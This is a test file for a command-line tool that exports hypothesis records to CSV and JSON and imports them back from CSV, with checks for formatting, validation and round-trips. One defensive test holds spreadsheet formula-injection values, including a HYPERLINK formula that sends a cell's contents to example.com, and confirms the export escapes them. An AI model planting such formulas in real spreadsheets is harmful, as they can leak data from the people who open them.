// Records to spreadsheets and back: hypo export (CSV, JSON) and hypo import csv, whose
// rows are all checked before anything is written.
import { cpSync, existsSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { parseCsvText } from '../../src/store/parse-csv.js';
import { HYPOTHESIS, SPREADSHEET_HAZARDS, VALID_FILES } from '../helpers/records.js';
import { checkJson, runCli } from '../helpers/run-cli.js';
import { makeRepo } from '../helpers/temp-repo.js';

const EXAMPLE = fileURLToPath(new URL('../../examples/transit-app', import.meta.url));

/** The data of every record file in a folder, by file name. */
function recordsIn(folder: string): Record<string, unknown> {
  return Object.fromEntries(
    readdirSync(folder)
      .filter((name) => name.endsWith('.yaml'))
      .map((name) => [name, parse(readFileSync(path.join(folder, name), 'utf8'))]),
  );
}

async function initialisedRepo() {
  const repo = makeRepo({}, { config: false, git: true });
  expect((await runCli(['-C', repo.root, 'init'])).code).toBe(0);
  return repo;
}

describe('hypo export', () => {
  it('writes RFC 4180 CSV: a header, CRLF line ends, quoted fields, lists joined by "; "', async () => {
    const result = await runCli(['-C', EXAMPLE, 'export', '--kind', 'hypothesis']);
    expect(result).toMatchObject({ code: 0, stderr: '' });
    const csv = result.stdout;
    expect(
      csv.startsWith(
        'id,kind,file,title,statement,status,segment,journey,touchpoint,metric,metric_type,cpi,baseline,target,success,importance,risk,evidence,owner,created,review_by,tags,code\r\n',
      ),
    ).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.split('\r\n')).toHaveLength(12); // header, 10 hypotheses, the empty rest after the last CRLF
    expect(csv).toContain('"Minuter resenären väntar på bryggan (självrapporterat), andel som öppnar realtidsvyn före avresa"');
    expect(csv).toContain(',färja; realtid; skärgård,src/realtime/**; src/ferry/**\r\n');
    expect(csv).toContain('"We are right if at least 10 of 14 interviewed ferry travellers describe checking the ferry\'s position');
  });

  it('starts with a BOM only with --bom, and writes to --out', async () => {
    const repo = makeRepo(VALID_FILES);
    expect((await runCli(['-C', repo.root, 'export'])).stdout.startsWith('id,')).toBe(true);
    const result = await runCli(['-C', repo.root, 'export', '--bom', '--out', 'records.csv']);
    expect(result).toMatchObject({ code: 0, stdout: 'wrote 3 records to records.csv\n' });
    expect(readFileSync(path.join(repo.root, 'records.csv'), 'utf8').startsWith('\uFEFFid,kind,file,')).toBe(true);
  });

  it('writes the same columns as JSON, every key present, lists as arrays', async () => {
    const repo = makeRepo(VALID_FILES);
    const result = await runCli(['-C', repo.root, 'export', '--format', 'json', '--kind', 'experiment,insight']);
    const rows = JSON.parse(result.stdout) as Record<string, unknown>[];
    expect(rows.map((row) => row.id)).toEqual(['departures-panel', 'riders-plan-at-home']);
    expect(rows[0]).toMatchObject({
      kind: 'experiment',
      tests: ['riders-want-realtime'],
      method: 'panel',
      'result.summary': null,
      'decision.action': null,
      learned: null,
    });
    expect(Object.keys(rows[0]!)).toEqual(Object.keys(rows[1]!));
  });

  it('leaves out files with errors, and says so', async () => {
    const repo = makeRepo({ ...VALID_FILES, 'learning/hypotheses/broken.yaml': 'kind: hypothesis\ntitle: Broken\n' });
    const result = await runCli(['-C', repo.root, 'export', '--kind', 'hypothesis']);
    expect(result.code).toBe(0);
    expect(result.stdout).not.toContain('broken');
    expect(result.stderr).toBe('⚠ 1 record left out for errors: learning/hypotheses/broken.yaml (hypo check shows why)\n');
    // A broken record of another kind than the ones exported is no part of the answer.
    expect((await runCli(['-C', repo.root, 'export', '--kind', 'insight'])).stderr).toBe('');
  });

  it('refuses an unknown kind, and --bom with JSON', async () => {
    const repo = makeRepo(VALID_FILES);
    expect((await runCli(['-C', repo.root, 'export', '--kind', 'hypotesis'])).stderr).toContain(
      '--kind hypotesis: not a kind: use hypothesis, experiment or insight (did you mean "hypothesis"?)',
    );
    expect((await runCli(['-C', repo.root, 'export', '--format', 'json', '--bom'])).code).toBe(2);
  });
});

describe('hypo export, then hypo import', () => {
  it('round-trips every kind of the example, in the order links need', async () => {
    const target = await initialisedRepo();
    for (const kind of ['hypothesis', 'experiment', 'insight']) {
      const file = path.join(target.root, `${kind}.csv`);
      expect((await runCli(['-C', EXAMPLE, 'export', '--kind', kind, '--out', file])).code).toBe(0);
      expect((await runCli(['-C', target.root, 'import', 'csv', file, '--kind', kind])).code).toBe(0);
    }
    for (const folder of ['hypotheses', 'experiments', 'insights']) {
      // x- keys come back as text; the example's are text already.
      expect(recordsIn(path.join(target.root, 'learning', folder))).toEqual(recordsIn(path.join(EXAMPLE, 'learning', folder)));
    }
  });

  it('round-trips the example’s hypotheses: every record’s data is the original’s', async () => {
    const source = makeRepo({}, { config: false });
    cpSync(EXAMPLE, source.root, { recursive: true });
    expect((await runCli(['-C', source.root, 'export', '--kind', 'hypothesis', '--bom', '--out', 'hypotheses.csv'])).code).toBe(0);
    const target = await initialisedRepo();
    const result = await runCli(['-C', target.root, 'import', 'csv', path.join(source.root, 'hypotheses.csv'), '--kind', 'hypothesis']);
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(/^Created 10 hypotheses:\n {2}learning\/hypotheses\/farjeresenarer-koper-hellre-biljett-ombord\.yaml {2}\(row 2\)\n/);
    const original = recordsIn(path.join(EXAMPLE, 'learning/hypotheses'));
    const imported = recordsIn(path.join(target.root, 'learning/hypotheses'));
    expect(Object.keys(imported).sort()).toEqual(Object.keys(original).sort());
    for (const [name, data] of Object.entries(original)) expect({ name, data: imported[name] }).toEqual({ name, data });
    for (const name of Object.keys(imported)) {
      expect(readFileSync(path.join(target.root, 'learning/hypotheses', name), 'utf8')).toMatch(
        /^# yaml-language-server: \$schema=\S+hypothesis\.schema\.json\n/,
      );
    }
    expect((await checkJson(target.root)).json.problems.filter((problem) => problem.severity === 'error')).toEqual([]);
  });

  it('writes text a spreadsheet would evaluate with a leading quote, and imports it back as the exact text', async () => {
    const source = makeRepo(SPREADSHEET_HAZARDS);
    expect((await runCli(['-C', source.root, 'export', '--kind', 'hypothesis', '--out', 'hazards.csv'])).code).toBe(0);
    const csv = readFileSync(path.join(source.root, 'hazards.csv'), 'utf8');
    expect(csv).toContain(
      `,"'=HYPERLINK(""https://example.com/?d=""&B2,""Öppna"")",'=1+1,open,'+cmd,'-köpa,,'@SUM(A1),,,,,'\t=2+2 är fyra,,,,'@elin,,,'-a; =b; @c,,''=redan citerad\r\n`,
    );
    const cells = parseCsvText(csv, 'hazards.csv').rows.flatMap((row) => row.cells);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    // Leading zeros and fractions are no formulas: they are written as they are (docs/spreadsheets.md says how to keep them).
    expect(cells).toEqual(expect.arrayContaining(['0012', '1/2', "'til; ö"]));

    const target = await initialisedRepo();
    const imported = await runCli(['-C', target.root, 'import', 'csv', path.join(source.root, 'hazards.csv'), '--kind', 'hypothesis']);
    expect(imported.code).toBe(0);
    // Saved all the same; the quality rules warn of the two statements, each at its row and column.
    expect(imported.stderr.trim().split('\n')).toEqual([
      expect.stringMatching(/hazards\.csv, row 2, column statement: warning the statement gives no reason/),
      expect.stringMatching(/hazards\.csv, row 3, column statement: warning the statement gives no reason/),
    ]);
    expect(recordsIn(path.join(target.root, 'learning/hypotheses'))).toEqual(recordsIn(path.join(source.root, 'learning/hypotheses')));
  });
});

describe('hypo import csv', () => {
  const header = 'title,statement,status,tags\n';

  it('makes ids from titles, fills in the status, and prints what --dry-run would create', async () => {
    const repo = await initialisedRepo();
    repo.write(
      'backlog.csv',
      `${header}Pendlare vill ha påminnelser,Vi tror att pendlare glömmer periodkortet eftersom det inte syns,,pendlare; påminnelse\n\n"Turister, i juli",Vi tror att turister köper dagsbiljett eftersom de reser mycket,testing,\n`,
    );
    const dry = await runCli(['-C', repo.root, 'import', 'csv', 'backlog.csv', '--kind', 'hypothesis', '--dry-run']);
    expect(dry).toEqual({
      code: 0,
      stdout:
        'Would create 2 hypotheses (nothing written: --dry-run):\n  learning/hypotheses/pendlare-vill-ha-paminnelser.yaml  (row 2)\n  learning/hypotheses/turister-i-juli.yaml  (row 4)\n',
      stderr:
        'backlog.csv, row 4, column status: warning the hypothesis is testing, but it has no success: write down before the test what result would prove it right\n',
    });
    expect(readdirSync(path.join(repo.root, 'learning/hypotheses'))).toEqual(['.gitkeep']);
    expect((await runCli(['-C', repo.root, 'import', 'csv', 'backlog.csv', '--kind', 'hypothesis'])).code).toBe(0);
    expect(parse(readFileSync(path.join(repo.root, 'learning/hypotheses/pendlare-vill-ha-paminnelser.yaml'), 'utf8'))).toEqual({
      kind: 'hypothesis',
      title: 'Pendlare vill ha påminnelser',
      statement: 'Vi tror att pendlare glömmer periodkortet eftersom det inte syns',
      status: 'open',
      tags: ['pendlare', 'påminnelse'],
    });
  });

  it('imports the sheet docs/spreadsheets.md shows', async () => {
    const doc = readFileSync(fileURLToPath(new URL('../../docs/spreadsheets.md', import.meta.url)), 'utf8');
    const sheet = /for a hypothesis:\n\n(?:<!--.*-->\n)?```text\n([\s\S]*?)```/.exec(doc)![1]!;
    const repo = await initialisedRepo();
    repo.write('backlog.csv', sheet);
    const result = await runCli(['-C', repo.root, 'import', 'csv', 'backlog.csv', '--kind', 'hypothesis']);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain('learning/hypotheses/turister-hittar-appen-via-qr-kod.yaml  (row 3)');
    // Its second row gives no reason, as the page says.
    expect(result.stderr).toMatch(/^backlog\.csv, row 3, column statement: warning the statement gives no reason[^\n]*\n$/);
  });

  it('reads a semicolon-separated sheet with a BOM and CRLF line ends, as Excel saves it in many locales', async () => {
    const repo = await initialisedRepo();
    repo.write('backlog.csv', '\uFEFFid;title;statement\r\nh1;Första;"Vi tror; alltså"\r\n');
    const result = await runCli(['-C', repo.root, 'import', 'csv', 'backlog.csv', '--kind', 'hypothesis']);
    expect(result.code).toBe(0);
    expect(parse(readFileSync(path.join(repo.root, 'learning/hypotheses/h1.yaml'), 'utf8'))).toMatchObject({ title: 'Första', statement: 'Vi tror; alltså' });
  });

  it('refuses unknown columns, naming each, before looking at any row', async () => {
    const repo = await initialisedRepo();
    repo.write('backlog.csv', 'title,statment,owner,priority\nA,B,C,D\n');
    const result = await runCli(['-C', repo.root, 'import', 'csv', 'backlog.csv', '--kind', 'hypothesis']);
    expect(result.code).toBe(1);
    expect(result.stderr).toBe(
      'backlog.csv, header, column statment: error unknown column "statment" for a hypothesis (did you mean "statement"?); team extensions must start with "x-"\n' +
        'backlog.csv, header, column priority: error unknown column "priority" for a hypothesis; team extensions must start with "x-"\n' +
        'hypo: nothing was imported: fix the header row of backlog.csv\n',
    );
  });

  it('checks every row first, reports each problem at its row and column, and writes nothing', async () => {
    const repo = makeRepo({ 'learning/hypotheses/riders-want-realtime.yaml': HYPOTHESIS }, { git: true });
    repo.write(
      'backlog.csv',
      'id,title,statement,status,importance,review_by,kind\n' +
        ',Good one,Vi tror eftersom,,,,hypothesis\n' +
        ',Bad status,Vi tror,testin,,,\n' +
        ',No statement,,,high,2026-02-30,\n' +
        'riders-want-realtime,Taken,Vi tror,,,,\n' +
        ',Good one,Vi tror igen,,,,\n' +
        'Not_An_Id,X,Vi tror,,,,\n' +
        ',Wrong kind,Vi tror eftersom,,,,experiment\n',
    );
    const result = await runCli(['-C', repo.root, 'import', 'csv', 'backlog.csv', '--kind', 'hypothesis']);
    expect(result.code).toBe(1);
    expect(result.stdout).toBe('');
    expect(result.stderr.split('\n')).toEqual([
      'backlog.csv, row 3, column status: error status must be one of open, testing, supported, refuted, inconclusive, retired — got "testin" (did you mean "testing"?)',
      'backlog.csv, row 4, column statement: error statement is required',
      'backlog.csv, row 4, column review_by: error review_by: "2026-02-30" is not a real calendar date',
      'backlog.csv, row 5, column id: error the id "riders-want-realtime" is taken by learning/hypotheses/riders-want-realtime.yaml',
      'backlog.csv, row 6, column title: error the id "good-one" is row 2\'s too; give one of them another id or title',
      'backlog.csv, row 7, column id: error "Not_An_Id" cannot be an id: the id has upper-case letters; use lower-case a–z, 0–9 and single hyphens',
      'backlog.csv, row 8, column kind: error kind is "experiment", but this import is of hypothesis records (--kind)',
      'hypo: nothing was imported: 7 errors in 6 rows',
      '',
    ]);
    expect(readdirSync(path.join(repo.root, 'learning/hypotheses'))).toEqual(['riders-want-realtime.yaml']);
  });

  it('checks links as check does: an experiment must test a hypothesis that exists', async () => {
    const repo = makeRepo({ 'learning/hypotheses/riders-want-realtime.yaml': HYPOTHESIS });
    repo.write('experiments.csv', 'title,tests,method\nPanel,riders-want-realtime; riders-want-reltime,panel\n');
    const result = await runCli(['-C', repo.root, 'import', 'csv', 'experiments.csv', '--kind', 'experiment']);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(
      'experiments.csv, row 2, column tests: error tests names "riders-want-reltime", but no record has that id (did you mean "riders-want-realtime"?)',
    );
    expect(existsSync(path.join(repo.root, 'learning/experiments'))).toBe(false);
  });

  it('reports CSV it cannot parse with its line, and refuses text that is not UTF-8', async () => {
    const repo = await initialisedRepo();
    repo.write('broken.csv', 'title,statement\nA,"never closed\n');
    const broken = await runCli(['-C', repo.root, 'import', 'csv', 'broken.csv', '--kind', 'hypothesis']);
    expect(broken.code).toBe(2);
    expect(broken.stderr).toMatch(/^hypo: broken\.csv:\d+: not valid CSV: /);
    repo.write('latin1.csv', Buffer.from('title,statement\nK\xf6p,Vi tror\n', 'latin1'));
    const latin1 = await runCli(['-C', repo.root, 'import', 'csv', 'latin1.csv', '--kind', 'hypothesis']);
    expect(latin1.stderr).toContain('hypo: latin1.csv is not UTF-8 text');
    expect((await runCli(['-C', repo.root, 'import', 'xlsx', 'a.xlsx', '--kind', 'hypothesis'])).stderr).toContain('hypo imports csv — not "xlsx"');
  });
});
